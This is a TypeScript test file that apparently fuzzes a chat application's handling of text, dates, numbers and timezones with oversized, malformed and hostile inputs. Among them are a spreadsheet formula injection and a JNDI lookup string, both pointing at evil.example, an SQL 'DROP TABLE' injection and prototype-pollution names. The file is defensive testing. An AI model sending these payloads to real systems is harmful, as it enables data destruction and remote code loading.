import { oddTexts } from '../../samples/texts.ts'
import type { Attempt, Expected, Got } from '../attempt.ts'
import { message, type Scene } from '../scene.ts'
import { post, press, says } from '../send.ts'
import type { Victim } from '../victims.ts'

/** What people can type or paste that does harm elsewhere. */
const texts: Readonly<Record<string, string>> = {
  ...oddTexts,
  longest: 'a'.repeat(28_000),
  longestMarkup: '<b>&lt;'.repeat(4_000),
  longestMarks: `e${'\u0301'.repeat(27_000)}`,
  longestNumber: '9'.repeat(28_000),
  longestSpaces: `a${' '.repeat(27_000)}b`,
  openTags: '<'.repeat(28_000),
  nothing: '',
  spaces: ' \u00a0\u200b\n',
  nul: 'voor\u0000na \u0007',
  formula: '=HYPERLINK("http://evil.example","x")',
  query: "'; DROP TABLE person; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what somebody typed.
  lookup: '${jndi:ldap://evil.example/a}',
  names: '__proto__ constructor toString',
  stops: 'STOP!!! stop. Stoppen, alsjeblieft',
}

const days = ['2026-02-31', '2026-13-01', '0000-00-00', '-000001-01-01', '+275760-09-14', '1e400', 'NaN', '5']
const numbers = ['NaN', '1e400', '5.5', '-1', '0', '1e308', '0x10', '9'.repeat(400), '٥x', 'Infinity', '']
const odd: readonly unknown[] = [5.5, -1, 1e308, true, null, [], [5], {}, { valueOf: 5 }]

/** What a text, a day and a number can be besides what they should be. */
export const words = (scene: Scene): Attempt[] => {
  const { victims, attacker } = scene
  const answers = (victim: Victim, question: string, values: readonly unknown[]) =>
    values.map(answer => () => press(victim, { do: 'answer', run: victim.run, question, item: null, answer }))
  return [
    ...Object.entries(texts).map(([what, text]) =>
      attempt('text', what, 'taken', [() => says(attacker, text)]),
    ),
    attempt('text', 'only a picture', 'taken', [() => post(scene, JSON.stringify(pictureIn(scene)))]),
    attempt('time', 'days that do not exist', 'taken', answers(victims.day, 'from', days)),
    attempt('time', 'days that are no text', 'taken', answers(victims.day, 'from', odd)),
    attempt('time', 'odd clocks and zones', 'taken', clocks(scene)),
    attempt('numbers', 'numbers that are none', 'taken', answers(victims.number, 'score', numbers)),
    attempt('numbers', 'numbers that are no text', 'taken', answers(victims.number, 'score', odd)),
  ]
}

const attempt = (
  group: string,
  what: string,
  expected: Expected,
  tries: readonly (() => Promise<Got>)[],
): Attempt => ({ group, what, expected, tries })

const pictureIn = (scene: Scene): object =>
  message(scene, { text: undefined, attachments: [{ contentType: 'image/png', contentUrl: 'x' }] })

function clocks(scene: Scene): (() => Promise<Got>)[] {
  const instants = ['9999-12-31T23:59:59.999Z', '2026-02-31T25:61:00Z', '-271821-04-20T00:00:00Z', 'x']
  const zones = ['Europe/Nowhere', '+25:00', '__proto__', '\u0000']
  return [
    ...instants.map(timestamp => message(scene, { timestamp, localTimestamp: timestamp })),
    ...zones.map(localTimezone => message(scene, { localTimezone, locale: localTimezone })),
  ].map(one => () => post(scene, JSON.stringify(one)))
}
